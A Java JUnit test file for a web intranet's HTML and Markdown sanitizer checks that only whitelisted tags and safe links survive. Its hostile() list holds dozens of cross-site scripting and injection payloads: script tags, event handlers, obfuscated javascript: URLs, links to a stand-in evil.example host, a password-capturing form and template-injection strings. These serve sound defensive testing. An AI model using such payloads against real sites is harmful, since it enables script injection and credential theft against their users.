package eu.elpaccto.intranet.shared.boundary;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class SanitisedHtmlTest {

    private static final Pattern TAG = Pattern.compile("<[^>]*>?");
    /** The empty comment is the sanitizer's own: it parts curly brackets that a template engine would look for. */
    private static final Pattern ALLOWED =
            Pattern.compile("</?(p|strong|em|ul|ol|li|h3|blockquote)>|<br />|</a>|<!-- -->"
                    + "|<a href=\"(https?://|mailto:|/(?![/\\\\]))[^\"<>]*\" rel=\"noopener noreferrer\">"
                    + "|<a href=\"/\" rel=\"noopener noreferrer\">");

    /** What people have tried elsewhere: scripts, handlers, disguised addresses, foreign content, broken markup. */
    static String[] hostile() {
        return new String[] {
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src=https://evil.example/pixel.gif>",
            "<svg><script>alert(1)</script></svg>",
            "<svg/onload=alert(1)>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\"java\nscript:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)\">x</a>",
            "<a href=\"\u0001javascript:alert(1)\">x</a>",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"file:///etc/passwd\">x</a>",
            "<a href=\"//evil.example/\">x</a>",
            "<a href=\"/\\evil.example/\">x</a>",
            "<a href=\"\\\\evil.example\">x</a>",
            "<a href=\"https://ok.example\" onclick=alert(1)>x</a>",
            "<a href=\"https://ok.example\" target=_top style=\"position:fixed;inset:0\">x</a>",
            "<a href='https://ok.example/\"onmouseover=alert(1)'>x</a>",
            "<a href=\"https://ok.example\" rel=\"opener\">x</a>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<p class=\"btn\" id=\"form\">x</p>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<iframe src=https://evil.example></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=https://evil.example></object><embed src=https://evil.example>",
            "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
            "<base href=https://evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<video><source onerror=alert(1)></video>",
            "<details open ontoggle=alert(1)>x</details>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<textarea></textarea><script>alert(1)</script>",
            "<title><script>alert(1)</script></title>",
            "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?php echo 1 ?><script>alert(1)</script>",
            "</div></main><h1>Approved</h1>",
            "<p><strong>open",
            "<p x='<script>alert(1)</script>'>",
            "\"><script>alert(1)</script>",
            "#{facesContext.externalContext.response} ${7*7}",
            "{{constructor.constructor('alert(1)')()}}",
            "\u202Eevil\u0000 <b\u0000>x</b>",
            "[x](javascript:alert(1))",
            "[x](JAVASCRIPT&colon;alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](<javascript:alert(1)>)",
            "[x](https://ok.example \"onmouseover=alert(1)\")",
            "[x](//evil.example)",
            "![x](https://evil.example/pixel.gif)",
            "![x](x\"onerror=\"alert(1))",
            "<javascript:alert(1)>",
            "```\n<script>alert(1)</script>\n```",
            "    <script>alert(1)</script>",
            "[x]: javascript:alert(1)\n\n[x]"
        };
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void nothing_hostile_survives_as_markup(String typed) {
        assertHarmless(SanitisedHtml.of(typed).toString());
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void nothing_hostile_survives_in_markdown(String typed) {
        assertHarmless(SanitisedHtml.ofMarkdown(typed).toString());
    }

    private static void assertHarmless(String html) {
        Matcher tags = TAG.matcher(html);
        while (tags.find()) {
            assertThat(tags.group()).matches(ALLOWED);
        }
    }

    @Test
    void what_the_corpus_test_looks_for_would_be_seen() {
        assertThat("<img src=x>").doesNotMatch(ALLOWED);
        assertThat("<a href=\"javascript:x\" rel=\"noopener noreferrer\">").doesNotMatch(ALLOWED);
        assertThat("<a href=\"//evil.example\" rel=\"noopener noreferrer\">").doesNotMatch(ALLOWED);
        assertThat("<p class=\"x\">").doesNotMatch(ALLOWED);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    A **strong** and an *important* word | <p>A <strong>strong</strong> and an <em>important</em> word</p>
                    # Much too large                     | <h3>Much too large</h3>
                    ### A heading                        | <h3>A heading</h3>
                    > Quoted                             | <blockquote><p>Quoted</p></blockquote>
                    - one                                | <ul><li>one</li></ul>
                    1. first                             | <ol><li>first</li></ol>
                    [here](/activities/JUS-2021-EC-014)  | <p><a href="/activities/JUS-2021-EC-014" rel="noopener noreferrer">here</a></p>
                    [there](https://www.interpol.int/)   | <p><a href="https://www.interpol.int/" rel="noopener noreferrer">there</a></p>
                    Ministério Público: ñandú, déjà      | <p>Ministério Público: ñandú, déjà</p>
                    """)
    void simple_markdown_is_formatted(String typed, String shown) {
        assertThat(SanitisedHtml.ofMarkdown(typed)
                        .toString()
                        .replaceAll(">\\s+<", "><")
                        .strip())
                .isEqualTo(shown);
    }

    @Test
    void a_line_break_stays_one_and_an_empty_line_begins_a_paragraph() {
        assertThat(SanitisedHtml.ofMarkdown("one\ntwo\n\nthree").toString().replace("\n", ""))
                .isEqualTo("<p>one<br />two</p><p>three</p>");
    }

    @Test
    void markup_in_markdown_is_text() {
        assertThat(SanitisedHtml.ofMarkdown("Less < more & <b>bold</b>").toString())
                .isEqualToIgnoringNewLines("<p>Less &lt; more &amp; &lt;b&gt;bold&lt;/b&gt;</p>");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   ", "\n\n"})
    void nothing_remains_nothing(String typed) {
        assertThat(SanitisedHtml.ofMarkdown(typed).isEmpty()).isTrue();
    }

    @Test
    void no_text_at_all_is_empty() {
        assertThat(SanitisedHtml.ofMarkdown(null).isEmpty()).isTrue();
        assertThat(SanitisedHtml.of(null).isEmpty()).isTrue();
    }
}
